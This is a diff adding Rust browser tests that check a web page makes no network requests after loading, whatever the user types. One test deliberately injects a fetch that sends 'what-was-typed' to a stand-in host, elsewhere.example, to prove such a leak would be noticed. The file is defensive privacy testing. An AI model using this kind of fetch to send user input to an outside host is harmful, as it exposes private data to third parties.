@@ -1,0 +1,61 @@
+//! What is typed goes nowhere.
+
+use std::time::Instant;
+
+use tests::browser::{SOON, Visit};
+
+use crate::{TEXTS, kept};
+
+#[test]
+fn after_loading_nothing_is_fetched() {
+    Visit::default().run(async |page| {
+        page.choose("CPU").await;
+        page.ready().await;
+        page.write("warm up").await;
+        page.settled(SOON).await;
+        // Until the page has put itself aside for the next visit.
+        kept(&page).await;
+        let before = page.site.requests();
+        for posts in TEXTS {
+            page.write(&posts.join("\n")).await;
+            page.settled(SOON).await;
+        }
+        page.click("//summary[normalize-space()='Why?']").await;
+        page.until("return document.querySelector('.marked') !== null", SOON)
+            .await;
+        page.press("中文").await;
+        page.press("English").await;
+        page.choose("Automatic").await;
+        page.ready().await;
+        page.click("//footer//summary").await;
+        let since = || page.site.requests().split_off(before.len());
+        let after_loading: Vec<String> = (since().into_iter())
+            .filter(|address| !of_the_browser(address))
+            .collect();
+        assert_eq!(after_loading, [""; 0]);
+    });
+}
+
+#[test]
+fn a_request_to_another_host_would_be_noticed() {
+    // From a page without the policy that forbids it.
+    let visit = Visit::default().instead("open.html", b"<!doctype html>".to_vec());
+    visit.open("open.html").run(async |page| {
+        page.script("fetch('http://elsewhere.example/?what-was-typed').catch(() => {})")
+            .await;
+        let start = Instant::now();
+        while !(page.site.requests().iter()).any(|address| address.contains("elsewhere.example")) {
+            assert!(start.elapsed() < SOON, "{:?}", page.site.requests());
+            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+        }
+    });
+}
+
+/// Chromium asks its maker's hosts this and that, whatever the page.
+fn of_the_browser(address: &str) -> bool {
+    let host = address.trim_start_matches("http://");
+    let host = host.split(['/', ':']).next().unwrap_or_default();
+    ["google.com", "googleapis.com", "gvt1.com"]
+        .iter()
+        .any(|maker| host == *maker || host.ends_with(&format!(".{maker}")))
+}
